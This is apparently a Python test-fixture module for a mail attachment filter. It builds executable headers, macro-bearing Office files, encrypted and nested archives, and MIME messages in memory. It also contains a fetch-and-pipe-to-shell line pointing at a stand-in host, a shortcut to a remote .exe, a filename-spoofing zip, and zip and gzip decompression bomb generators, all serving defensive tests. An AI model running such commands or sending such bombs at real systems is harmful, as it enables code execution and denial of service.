"""
Test messages for the attachment filter, built in memory: file contents (executables of every
kind, clean documents), archives (zip, tar, gzip, bzip2, xz, an encrypted zip, bombs) and MIME
messages around them.  Nothing here is a working program: only the bytes that identify one.
"""

import base64
import bz2
import gzip
import io
import itertools
import lzma
import struct
import tarfile
import zipfile
import zlib
from email import policy
from email.parser import BytesParser

from mailgate.envelope import Envelope
from mailgate.message import Message

# ---------------------------------------------------------------------------------------------
# File contents.
# ---------------------------------------------------------------------------------------------


def pe():
    """The headers of a Windows PE executable (DOS stub, PE signature, COFF header)."""
    data = bytearray(512)
    data[0:2] = b"MZ"
    data[2:4] = b"\x90\x00"
    data[0x3C:0x40] = struct.pack("<L", 0x80)
    data[0x40:0x40 + 39] = b"This program cannot be run in DOS mode."
    data[0x80:0x84] = b"PE\0\0"
    data[0x84:0x86] = b"\x4c\x01"  # i386
    return bytes(data) + b"\0" * 1024


def elf():
    return b"\x7fELF\x02\x01\x01\x00" + b"\0" * 8 + b"\x02\x00\x3e\x00" + b"\0" * 200


def macho(magic):
    return magic + b"\x07\x00\x00\x01" + b"\0" * 200


MACHO_MAGICS = (b"\xfe\xed\xfa\xce", b"\xce\xfa\xed\xfe", b"\xfe\xed\xfa\xcf", b"\xcf\xfa\xed\xfe")


def macho_fat():
    return b"\xca\xfe\xba\xbe" + struct.pack(">L", 2) + b"\0" * 200


def java_class():
    return b"\xca\xfe\xba\xbe" + struct.pack(">HH", 0, 52) + b"\0" * 100


def shebang():
    return b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"


def lnk():
    return (b"\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"
            + b"\0" * 56)


def hta():
    return b"<html><head><HTA:APPLICATION ID=\"x\"/><script>alert(1)</script></head></html>"


def url_shortcut():
    return b"[InternetShortcut]\r\nURL=file://example.invalid/share/x.exe\r\n"


def cab():
    return b"MSCF\0\0\0\0" + b"\0" * 100


def iso():
    data = bytearray(0x8000 + 2048)
    data[0x8000:0x8006] = b"\x01CD001"
    return bytes(data)


def dex():
    return b"dex\n035\0" + b"\0" * 100


def _ole_entry(name, kind, clsid=b"\0" * 16, start=0xFFFFFFFE, size=0):
    encoded = name.encode("utf-16-le") + b"\0\0"
    entry = encoded.ljust(64, b"\0")
    entry += struct.pack("<HBB3L", len(encoded), kind, 1, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
    entry += clsid + b"\0" * 4 + b"\0" * 16 + struct.pack("<LLL", start, size, 0)
    assert len(entry) == 128
    return entry


def ole(names, root_clsid=b"\0" * 16):
    """
    An OLE2 compound file (version 3, 512-byte sectors): header, one directory sector holding
    the root entry and the given (name, type) entries, and a FAT sector.
    """
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<L", header, 0x2C, 1)  # one FAT sector
    struct.pack_into("<L", header, 0x30, 0)  # directory at sector 0
    struct.pack_into("<L", header, 0x38, 4096)
    struct.pack_into("<LL", header, 0x3C, 0xFFFFFFFE, 0)
    struct.pack_into("<LL", header, 0x44, 0xFFFFFFFE, 0)
    struct.pack_into("<L", header, 0x4C, 1)  # FAT at sector 1
    for i in range(1, 109):
        struct.pack_into("<L", header, 0x4C + 4 * i, 0xFFFFFFFF)
    entries = [_ole_entry("Root Entry", 5, root_clsid)]
    entries += [_ole_entry(name, kind) for name, kind in names]
    directory = b"".join(entries).ljust(512 * ((len(entries) * 128 + 511) // 512), b"\0")
    fat = struct.pack("<2L", 0xFFFFFFFE, 0xFFFFFFFD).ljust(512, b"\xff")
    return bytes(header) + directory + fat


def ole_vba():
    """An OOXML vbaProject.bin / the macro storage of a .doc: VBA/_VBA_PROJECT."""
    return ole([("VBA", 1), ("_VBA_PROJECT", 2), ("dir", 2), ("PROJECT", 2)])


def ole_plain_doc():
    """A Word 97 document without macros."""
    return ole([("WordDocument", 2), ("1Table", 2), ("\x05SummaryInformation", 2)])


def msi():
    return ole([("\u4840\u3f3f", 2)], bytes.fromhex("84100c0000000000c000000000000046"))


def pdf():
    return (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
            b"trailer << /Root 1 0 R >>\n%%EOF\n")


def png():
    def chunk(kind, data):
        return struct.pack(">L", len(data)) + kind + data + struct.pack(
            ">L", zlib.crc32(kind + data) & 0xFFFFFFFF)

    rows = b"".join(b"\0" + b"\xff\x00\x00" * 4 for _ in range(4))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">LLBBBBB", 4, 4, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def docx(extra=()):
    """A minimal Word document (a zip of XML parts and an image); extra: more (name, bytes)."""
    members = [
        ("[Content_Types].xml", b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats'
                                b'.org/package/2006/content-types"/>'),
        ("_rels/.rels", b'<?xml version="1.0"?><Relationships/>'),
        ("docProps/core.xml", b'<?xml version="1.0"?><cp:coreProperties/>'),
        ("word/document.xml", b'<?xml version="1.0"?><w:document><w:body><w:p><w:r><w:t>Hello'
                              b'</w:t></w:r></w:p></w:body></w:document>' * 20),
        ("word/_rels/document.xml.rels", b'<?xml version="1.0"?><Relationships/>'),
        ("word/media/image1.png", png()),
    ]
    return zip_of(members + list(extra))


def docm():
    """A macro-enabled Word document (what a .docm is), whatever it is called."""
    return docx([("word/vbaProject.bin", ole_vba())])


def jar():
    return zip_of([("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nMain-Class: A\r\n"),
                   ("A.class", java_class())])


# ---------------------------------------------------------------------------------------------
# Archives.
# ---------------------------------------------------------------------------------------------


def zip_of(members, compression=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


def tar_of(members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def gzip_of(data, name=None):
    out = io.BytesIO()
    with gzip.GzipFile(filename=name or "", mode="wb", fileobj=out, mtime=0) as f:
        f.write(data)
    return out.getvalue()


def tar_gz_of(members):
    return gzip_of(tar_of(members))


def bzip2_of(data):
    return bz2.compress(data)


def xz_of(data):
    return lzma.compress(data, format=lzma.FORMAT_XZ)


def nested_zip(levels, name="evil.exe", data=None):
    """levels zips inside each other, the innermost holding name: level1.zip: level2.zip: ..."""
    data = pe() if data is None else data
    inner_name, inner = name, data
    for level in range(levels, 0, -1):
        inner = zip_of([(inner_name, inner)])
        inner_name = "level%d.zip" % level
    return inner


_LOCAL = struct.Struct("<4s2B4HL2L2H")
_CENTRAL = struct.Struct("<4s4B4HL2L5H2L")
_END = struct.Struct("<4s4H2LH")


def raw_zip(entries):
    """
    A zip written by hand, for what zipfile cannot write.  entries: dicts with name (bytes),
    data (the stored bytes, already compressed/encrypted), crc, size (uncompressed), and
    optionally method (0), flags (0), extra (b"").
    """
    body = bytearray()
    central = bytearray()
    for entry in entries:
        offset = len(body)
        method, flags = entry.get("method", 0), entry.get("flags", 0)
        extra = entry.get("extra", b"")
        name, data = entry["name"], entry["data"]
        body += _LOCAL.pack(b"PK\x03\x04", 20, 0, flags, method, 0, 0x21, entry["crc"],
                            len(data), entry["size"], len(name), len(extra)) + name + extra + data
        central += _CENTRAL.pack(b"PK\x01\x02", 20, 3, 20, 0, flags, method, 0, 0x21,
                                 entry["crc"], len(data), entry["size"], len(name), len(extra),
                                 0, 0, 0, 0, offset) + name + extra
    end = _END.pack(b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), len(body), 0)
    return bytes(body + central + end)


def _crc_table():
    table = []
    for i in range(256):
        c = i
        for _ in range(8):
            c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1
        table.append(c)
    return table


_TABLE = _crc_table()


class ZipCrypto:
    """Traditional PKWARE encryption (APPNOTE 6.1), enough to write what zipfile can read."""

    def __init__(self, password):
        self.keys = [305419896, 591751049, 878082192]
        for byte in password:
            self._update(byte)

    def _update(self, byte):
        k0, k1, k2 = self.keys
        k0 = (k0 >> 8) ^ _TABLE[(k0 ^ byte) & 0xFF]
        k1 = ((k1 + (k0 & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        k2 = (k2 >> 8) ^ _TABLE[(k2 ^ (k1 >> 24)) & 0xFF]
        self.keys = [k0, k1, k2]

    def encrypt(self, data):
        out = bytearray()
        for byte in data:
            k = self.keys[2] | 2
            out.append(byte ^ (((k * (k ^ 1)) >> 8) & 0xFF))
            self._update(byte)
        return bytes(out)


def encrypted_zip(members, password=b"secret"):
    """A zip whose members are stored and ZipCrypto-encrypted (flag bit 0)."""
    entries = []
    for name, data in members:
        crc = zlib.crc32(data) & 0xFFFFFFFF
        header = b"\x5a" * 11 + bytes([crc >> 24])  # the last byte checks the password
        entries.append({"name": name.encode(), "data": ZipCrypto(password).encrypt(header + data),
                        "crc": crc, "size": len(data), "flags": 1})
    return raw_zip(entries)


def lying_zip_bomb(size=10 * 1024 * 1024, declared=1000):
    """size bytes of zeros deflated into a member whose headers say it holds declared bytes."""
    compressor = zlib.compressobj(1, zlib.DEFLATED, -15)
    block = b"\0" * (1024 * 1024)
    data = b"".join([compressor.compress(block) for _ in range(size // len(block))]
                    + [compressor.flush()])
    crc = 0
    for _ in range(size // len(block)):
        crc = zlib.crc32(block, crc)
    return raw_zip([{"name": b"zeros.bin", "data": data, "crc": crc, "size": declared,
                     "method": 8}])


def zip_bomb(size=100 * 1024 * 1024, name="zeros.bin"):
    """size bytes of zeros deflated into one member (about 1/1000 of size on disk)."""
    out = io.BytesIO()
    block = b"\0" * (1024 * 1024)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open(name, "w", force_zip64=True) as f:
            for _ in range(size // len(block)):
                f.write(block)
    return out.getvalue()


def gzip_bomb(size=100 * 1024 * 1024):
    """size bytes of zeros in a gzip stream (which declares no size up front)."""
    compressor = zlib.compressobj(1, zlib.DEFLATED, 31)
    block = b"\0" * (1024 * 1024)
    return b"".join([compressor.compress(block) for _ in range(size // len(block))]
                    + [compressor.flush()])


def unicode_path_zip(name, unicode_name, data=b"hello"):
    """A zip whose member has name in the directory and unicode_name in an Info-ZIP Unicode Path
    extra field (which 7-Zip and others prefer)."""
    encoded = name.encode()
    unicode = unicode_name.encode("utf-8")
    payload = b"\x01" + struct.pack("<L", zlib.crc32(encoded) & 0xFFFFFFFF) + unicode
    extra = struct.pack("<HH", 0x7075, len(payload)) + payload
    return raw_zip([{"name": encoded, "data": data, "crc": zlib.crc32(data) & 0xFFFFFFFF,
                     "size": len(data), "extra": extra}])


def _tnef_attribute(level, attribute, value):
    return (bytes([level]) + struct.pack("<LL", attribute, len(value)) + value
            + struct.pack("<H", sum(value) & 0xFFFF))


def _mapi_unicode(prop, text):
    value = (text + "\0").encode("utf-16-le")
    return struct.pack("<HHLL", 0x001F, prop, 1, len(value)) + value + b"\0" * (-len(value) % 4)


def tnef(attachments):
    """
    A TNEF stream (winmail.dat) with the given (title, long file name or None, data)
    attachments: attAttachRendData, attAttachTitle, attAttachData and attAttachment (the MAPI
    properties, with PR_ATTACH_LONG_FILENAME) for each, after a message class attribute.
    """
    out = b"\x78\x9f\x3e\x22" + struct.pack("<H", 0x1234)
    out += _tnef_attribute(1, 0x00089006, struct.pack("<L", 0x00010000))  # attTnefVersion
    out += _tnef_attribute(1, 0x00078008, b"IPM.Microsoft Mail.Note\0")
    for title, long_name, data in attachments:
        out += _tnef_attribute(2, 0x00069002, b"\x01\x00\xff\xff\xff\xff" + b"\0" * 8)
        out += _tnef_attribute(2, 0x00018010, title.encode("cp1252") + b"\0")
        out += _tnef_attribute(2, 0x0006800F, data)
        props = [_mapi_unicode(0x3707, long_name)] if long_name else []
        out += _tnef_attribute(2, 0x00069005, struct.pack("<L", len(props)) + b"".join(props))
    return out


# ---------------------------------------------------------------------------------------------
# MIME.
# ---------------------------------------------------------------------------------------------


def _b64(data):
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def part(data, filename=None, ctype="application/octet-stream", name=None, disposition="attachment",
         headers=(), encoding="base64"):
    """
    One MIME part as bytes.  filename/name go into Content-Disposition/Content-Type quoted as
    given (str, UTF-8 encoded when not ASCII); headers are extra raw header lines (str or bytes);
    data is encoded with encoding (base64, 7bit, quoted-printable is not needed here).
    """
    lines = []
    content_type = ctype + ('; name="%s"' % name if name is not None else "")
    lines.append(b"Content-Type: " + content_type.encode("utf-8"))
    if disposition is not None:
        value = disposition + ('; filename="%s"' % filename if filename is not None else "")
        lines.append(b"Content-Disposition: " + value.encode("utf-8"))
    for header in headers:
        lines.append(header if isinstance(header, bytes) else header.encode("utf-8"))
    lines.append(b"Content-Transfer-Encoding: " + encoding.encode())
    body = _b64(data) if "base64" in encoding.lower() else data
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def text_part(text="Please find the documents attached.\r\n"):
    return (b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\n"
            + text.encode("utf-8"))


HEADERS = (b"From: Alice <alice@example.com>\r\nTo: Bob <bob@example.org>\r\n"
           b"Subject: documents\r\nDate: Tue, 14 Nov 2023 22:13:20 +0000\r\n"
           b"Message-ID: <m1@example.com>\r\nMIME-Version: 1.0\r\n")


def multipart(parts, boundary=b"=_b0", subtype=b"mixed", headers=b""):
    """A multipart entity (headers and body) holding parts (bytes)."""
    out = headers + b"Content-Type: multipart/" + subtype
    out += b'; boundary="' + boundary + b'"\r\n\r\n'
    out += b"This is a multi-part message in MIME format.\r\n"
    for p in parts:
        out += b"--" + boundary + b"\r\n" + p + b"\r\n"
    return out + b"--" + boundary + b"--\r\n"


_boundaries = itertools.count(1)


def message(*attachments, body=True):
    """A whole message: a text body and the given parts (bytes, e.g. from part()).  Each message
    has its own boundary, so that messages can be attached to messages."""
    parts = ([text_part()] if body else []) + list(attachments)
    return multipart(parts, boundary=b"=_m%d" % next(_boundaries), headers=HEADERS)


def message_with(data, filename, **kw):
    return message(part(data, filename, **kw))


def nested_multipart(depth, leaf=None):
    """depth multipart/mixed levels inside each other, the innermost holding leaf."""
    inner = leaf if leaf is not None else text_part()
    for level in range(depth, 0, -1):
        inner = multipart([inner], boundary=b"=_level%d" % level)
    return HEADERS + inner


def rfc822_part(inner, encoding="7bit"):
    body = _b64(inner) if encoding == "base64" else inner
    return (b"Content-Type: message/rfc822\r\nContent-Disposition: attachment\r\n"
            b"Content-Transfer-Encoding: " + encoding.encode() + b"\r\n\r\n" + body)


def parse(raw):
    """A mailgate.message.Message as the chain hands it to filters."""
    envelope = Envelope("Q1", "alice@example.com", ["bob@example.org"], "192.0.2.1")
    parsed = BytesParser(policy=policy.default).parsebytes(raw)
    return Message(envelope, raw, parsed)
